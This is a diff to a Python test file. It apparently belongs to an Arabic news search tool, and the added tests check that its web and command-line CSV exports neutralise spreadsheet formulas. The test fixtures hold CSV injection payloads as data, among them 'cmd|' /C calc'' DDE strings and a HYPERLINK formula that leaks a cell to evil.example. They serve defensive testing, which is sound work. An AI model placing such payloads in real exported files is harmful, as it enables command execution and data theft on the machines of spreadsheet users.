@@ -1,15 +1,20 @@
-"""What Akhbar writes for other programs, under hostile input (issue #35, point 4): the Atom feed
-stays XML whatever control characters the articles or the URL hold."""
+"""What Akhbar writes for other programs, under hostile input (issue #35, points 4-5): the Atom feed
+stays XML whatever control characters the articles or the URL hold; CSV exports (the web's and the
+command line's) never hand a spreadsheet a formula."""
 from __future__ import annotations
 
 import csv
 import json
+import subprocess
+import sys
 from xml.etree import ElementTree as ET
 
 import feedparser
 import pytest
 
 from index.builder import build_index
+from tests.conftest import ROOT
+from tests.test_export import _csv_rows
 from tests.test_feeds import A, check_atom
 from web import create_app
 from web.feeds import CONTENT_TYPE, atom_feed
@@ -117,3 +122,89 @@ def test_every_character_xml_forbids_or_discourages_is_kept_out_of_a_feed():
     parsed = feedparser.parse(data, response_headers={"content-type": CONTENT_TYPE})
     assert not parsed.bozo, parsed.get("bozo_exception")
     assert root.find(f"{A}entry/{A}author/{A}name").text == " " * 7 + "المصدر" and parsed.entries[0].author == "المصدر"
+
+
+# -- 5. CSV cells are never formulas -------------------------------------------------------------
+
+FORMULA_ROWS = [
+    {"id": "=1+1", "title": "=cmd|' /C calc'!A0 الوفد المصري", "text": "وصل الوفد المصري إلى طرابلس.", "date": "2021-01-05",
+     "source": "+SUM(1+1)*cmd|' /C calc'!A0", "url": '=HYPERLINK("http://evil.example/?leak="&A1,"اضغط")',
+     "category": "-2+3+cmd|' /C calc'!A0"},
+    {"id": "b2", "title": " @SUM(1+1)*cmd|' /C calc'!A0 الوفد", "text": "استقبل خليفة حفتر الوفد في بنغازي.", "date": "2021-01-06",
+     "source": "\u200f=1+1", "url": "\t=1+1", "category": ' =HYPERLINK("http://evil.example")'},
+    {"id": "c3", "title": "الوفد المصري في القاهرة", "text": "عاد الوفد المصري إلى القاهرة.", "date": "2021-01-07"},
+    {"id": "d4", "title": "الوفد - تقرير", "text": "الوفد المصري في تونس.", "source": "الجزيرة", "date": "2021-01-01"},
+]
+#: The sidecar replaces c3's source, url and title (README, "Metadata beside the text").
+SIDECAR = [["id", "source", "date", "url", "title"],
+           ["c3", "@SUM(1+1)*cmd|' /C calc'!A0", "2021-01-08", "+1+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","الوفد")']]
+TEXT_COLUMNS = ("id", "title", "source", "url", "persons", "places", "organizations", "category", "story_id")
+#: Characters a spreadsheet skips before it reads a cell's first character.
+_SKIPPED = " \t\r\n\xa0\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\x00"
+
+
+def _runs_as_formula(cell: str) -> bool:
+    return cell.lstrip(_SKIPPED)[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")
+
+
+@pytest.fixture(scope="module")
+def formula_index(tmp_path_factory):
+    return _build(tmp_path_factory.mktemp("formulas"), FORMULA_ROWS, SIDECAR)
+
+
+def _check_neutralised(rows: list[dict], stored: list[dict]):
+    """Each text cell that would run as a formula is the stored value behind one «'»; every other cell
+    is the stored value unchanged; the score stays a number."""
+    assert [row["id"] for row in rows] == [s["id"] if not _runs_as_formula(s["id"]) else "'" + s["id"] for s in stored]
+    neutralised = 0
+    for row, s in zip(rows, stored):
+        for column in TEXT_COLUMNS:
+            value = "; ".join(s[column]) if isinstance(s[column], list) else (s[column] or "")
+            assert not _runs_as_formula(row[column]), (column, row[column])
+            if _runs_as_formula(value):
+                assert row[column] == "'" + value
+                neutralised += 1
+            else:
+                assert row[column] == value
+        assert row["score"] == str(s["score"]) and float(row["score"]) > 0
+    return neutralised
+
+
+def test_formulas_from_articles_and_the_sidecar_are_neutralised_in_the_web_csv(formula_index, make_client):
+    client = make_client(formula_index)
+    stored = [json.loads(line) for line in client.get("/search.jsonl?q=الوفد&group=off").get_data(as_text=True).splitlines()]
+    by_id = {s["id"]: s for s in stored}
+    # JSON Lines is data: the values as they came (the sidecar's for c3)
+    assert by_id["=1+1"]["title"] == FORMULA_ROWS[0]["title"] and by_id["c3"]["url"] == SIDECAR[1][3]
+    assert by_id["c3"]["title"] == SIDECAR[1][4] and by_id["b2"]["source"] == "\u200f=1+1"
+    rows = _csv_rows(client.get("/search.csv?q=الوفد&group=off").data)
+    # title, source, url, category (articles), source, url, title (sidecar), id, story id, leading space/RLM/tab
+    assert _check_neutralised(rows, stored) >= 11
+    got = {row["id"]: row for row in rows}
+    assert got["'=1+1"]["title"] == "'=cmd|' /C calc'!A0 الوفد المصري"
+    assert got["c3"]["title"] == "'" + SIDECAR[1][4] and got["c3"]["source"] == "'" + SIDECAR[1][1]
+    assert got["b2"]["source"] == "'\u200f=1+1"
+    assert got["d4"]["title"] == "الوفد - تقرير" and got["d4"]["source"] == "الجزيرة"  # ordinary text untouched
+
+
+def test_formulas_are_neutralised_in_the_command_line_csv(formula_index, make_client):
+    """``akhbar search --all --format csv``, run as a process, writes the same neutralised rows as /search.csv."""
+    client = make_client(formula_index)
+    stored = [json.loads(line) for line in client.get("/search.jsonl?q=الوفد").get_data(as_text=True).splitlines()]
+    out = subprocess.run([sys.executable, "-m", "web.cli", "search", "الوفد", "--index", str(formula_index), "--all",
+                          "--format", "csv"], capture_output=True, cwd=ROOT, check=True, timeout=120)
+    rows = _csv_rows(out.stdout)
+    assert _check_neutralised(rows, stored) >= 8
+    assert rows == _csv_rows(client.get("/search.csv?q=الوفد").data)
+
+
+@pytest.mark.parametrize("text, cell", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3+cmd", "'-2+3+cmd"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("  =1+1", "'  =1+1"), ("\u200f\u202b=1", "'\u200f\u202b=1"), ("\n-1", "'\n-1"), ("\tالوفد", "'\tالوفد"),
+    ("\rالوفد", "'\rالوفد"), ("\x00الوفد", "'\x00الوفد"),
+    ("الوفد", "الوفد"), ("الوفد = 1", "الوفد = 1"), ("2021-01-05", "2021-01-05"), ("", ""), ("'=1", "'=1"),
+])
+def test_spreadsheet_cell(text, cell):
+    from web.export import spreadsheet_cell
+
+    assert spreadsheet_cell(text) == cell
